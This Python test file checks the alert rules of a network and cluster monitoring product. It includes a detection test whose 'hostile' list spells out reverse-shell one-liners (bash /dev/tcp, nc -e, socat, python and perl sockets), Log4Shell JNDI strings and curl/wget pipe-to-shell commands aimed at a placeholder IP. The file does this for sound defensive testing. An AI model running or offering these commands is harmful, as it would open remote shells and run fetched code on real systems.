"""The alert rules of the product: which record each is about, and which one beside it is none."""

from typing import Any

import pytest

from tapetum.domain.documents import DocumentKind
from tapetum.kql import compile_predicate, parse
from tests.api.test_builtin import read

RULES = dict(read(DocumentKind.ALERT_RULE))
FILTERED = {name: rule for name, rule in RULES.items() if rule.detector is None}
"""What detectors see is shown by tests/contract/test_detectors.py."""
POLICY = {"objectRef.resource": "networkpolicies", "stage": "ResponseComplete", "responseStatus.code": 200}
EXEC = {"objectRef.resource": "pods", "objectRef.subresource": "exec", "responseStatus.code": 101}
SENT = {"reporter": "src", "action": "allow", "proto": "tcp", "bytes_out": 60, "bytes_in": 0}
EXAMPLES: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {
    "bgp-flapping": ({"state": "down"}, {"state": "up"}),
    "cleartext-ports": (
        {"action": "allow", "source_type": "wep", "proto": "tcp", "dest_port": 23},
        {"action": "allow", "source_type": "wep", "proto": "udp", "dest_port": 514},
    ),
    "denied-burst": ({"action": "deny", "source_type": "wep"}, {"action": "deny", "source_type": "net"}),
    "failing-dns": ({"rcode": "ServFail"}, {"rcode": "NXDomain"}),
    "missing-names": (
        {"rcode": "NXDomain", "qname": "xk2v9.example"},
        {"rcode": "NXDomain", "qname": "web.shop.svc.cluster.local"},
    ),
    "pod-exec": ({**EXEC, "verb": "get"}, {**EXEC, "verb": "create", "responseStatus.code": 403}),
    "policies-changed": ({**POLICY, "verb": "patch"}, {**POLICY, "verb": "create"}),
    "policy-deleted": (
        {**POLICY, "verb": "delete"},
        {**POLICY, "verb": "delete", "responseStatus.code": 404},
    ),
    "server-errors": ({"response_code": "503"}, {"response_code": "503", "reporter": "src"}),
    "suspicious-arguments": ({"process_args": ["-c", "bash -i >& /dev/tcp/1.2.3.4/9"]}, {}),
    "silent-servers": (SENT, {**SENT, "bytes_in": 1}),
}


def test_each_rule_has_an_example() -> None:
    assert set(EXAMPLES) == {name.removeprefix("builtin.") for name in FILTERED}


@pytest.mark.parametrize("name", sorted(EXAMPLES))
def test_a_rule_is_about_its_example_and_not_about_what_is_beside_it(name: str) -> None:
    rule, (hit, miss) = RULES[f"builtin.{name}"], EXAMPLES[name]
    meets = compile_predicate(parse(rule.filter), rule.kind.value, 0)
    assert meets(hit)
    assert not meets(miss)


_HOSTILE = """
bash -i >& /dev/tcp/203.0.113.5/9001 0>&1
nc 203.0.113.5 4444 -e /bin/sh
nc -e /bin/sh 203.0.113.5 4444
/usr/bin/nc -nv 203.0.113.5 4444 -e /bin/bash
sh -c nc -lvp 4444 -e sh
ncat --ssl 203.0.113.5 443 -e /bin/bash
ncat 203.0.113.5 443 --exec /bin/bash
curl http://a.example/?x=${jndi:ldap://203.0.113.5/a}
${${lower:j}ndi:ldap://203.0.113.5/a}
${${::-j}${::-n}di:rmi://203.0.113.5/a}
${JNDI:LDAP://203.0.113.5/a}
sh -c echo aGk= | base64 -d | bash
sh -c echo aGk= | base64 --decode | sh
sh -c curl -s http://203.0.113.5/x | sh
sh -c wget -qO- http://203.0.113.5/x|bash -s
sh -c curl -fsSL http://203.0.113.5/x | /bin/sh
socat exec:'bash -li',pty tcp:203.0.113.5:4444
socat TCP:203.0.113.5:4444 EXEC:/bin/sh
python3 -c import socket,subprocess,os;s=socket.socket()
/usr/bin/python -c import os,socket
perl -e use Socket;$i="203.0.113.5"
""".strip().splitlines()
_ORDINARY = """
rsync -e ssh -az /data backup:/data
jaeger-sync -endpoint http://jaeger:14268
sh -c until nc -z db 5432; do sleep 1; done; sed -e s/a/b/ conf
nc -z db 5432
nc -vz db 5432
sync -e all
-c base64 -d /run/secret > /tmp/key
curl -fsS http://localhost:8080/healthz
sh -c curl -s http://api/v1 | jq .status
sh -c wget -q http://api/v1 -O /tmp/shards
curl http://host/path?sh=1
python3 -m http.server 8080
python3 manage.py runserver
/usr/bin/python3 -c import sys; print(sys.version)
perl -pe s/a/b/
java -Djndi.properties=/etc/jndi.properties -jar app.jar
java -Dcom.sun.jndi.ldap.connect.timeout=500 -jar app.jar
socat TCP-LISTEN:8080,fork TCP:db:5432
--config=${CONFIG} --name=${POD_NAME}
""".strip().splitlines()


def test_suspicious_arguments_are_told_from_ordinary_ones() -> None:
    rule = RULES["builtin.suspicious-arguments"]
    meets = compile_predicate(parse(rule.filter), rule.kind.value, 0)
    assert [each for each in _HOSTILE if not meets({"process_args": [each]})] == []
    assert [each for each in _ORDINARY if meets({"process_args": [each]})] == []


@pytest.mark.parametrize(
    "name",
    [
        "7.1.168.192.in-addr.arpa",
        "a.svc",
        "nas.lan",
        "nas.home.arpa",
        "2.0.0.127.zen.spamhaus.org",
        "a.local.",
    ],
)
def test_names_that_are_asked_for_in_vain_by_trade_do_not_count(name: str) -> None:
    rule = RULES["builtin.missing-names"]
    assert not compile_predicate(parse(rule.filter), rule.kind.value, 0)({"rcode": "NXDomain", "qname": name})


def test_each_says_what_it_is_and_what_can_be_done() -> None:
    for name, rule in RULES.items():
        assert len(rule.description) > 60, name
        assert rule.mitigations, name
        assert (rule.technique is None) == (rule.tactic is None), name
        assert rule.window is None or rule.window.hold or rule.window.clear is not None, (
            f"{name} would come again and again around its threshold"
        )


def test_one_that_cannot_suit_every_cluster_is_off() -> None:
    assert [name for name, rule in RULES.items() if not rule.enabled] == ["builtin.server-errors"]
